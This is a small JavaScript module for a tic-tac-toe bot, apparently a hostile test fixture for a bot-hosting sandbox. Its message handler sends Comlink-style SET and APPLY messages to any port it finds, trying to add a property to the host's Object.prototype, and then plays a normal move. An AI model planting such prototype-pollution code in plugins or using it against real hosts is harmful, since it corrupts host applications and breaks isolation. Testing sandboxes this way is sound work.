// A tic-tac-toe bot module that looks for a port of the host in the host's call and sends Comlink's SET down it:
// Object.prototype.pwnedByBot on the host, were the host to expose anything there. Then it plays the first free cell.
import { parentPort } from 'node:worker_threads';

const ports = (value, found = []) => {
  if (value && typeof value === 'object') {
    if (typeof value.postMessage === 'function') found.push(value);
    else for (const inner of Object.values(value)) ports(inner, found);
  }
  return found;
};

parentPort.on('message', (message) => {
  for (const port of ports(message)) {
    port.postMessage({ id: 'x', type: 'SET', path: ['__proto__', '__proto__', 'pwnedByBot'], value: { type: 'RAW', value: 'yes' } });
    port.postMessage({ id: 'y', type: 'APPLY', path: [], argumentList: [] });
  }
});

export default {
  name: 'pollutes',
  choose: (_position, { legalMoves, info }) => {
    info({ depth: 1, nodes: 1 });
    return legalMoves()[0];
  },
};
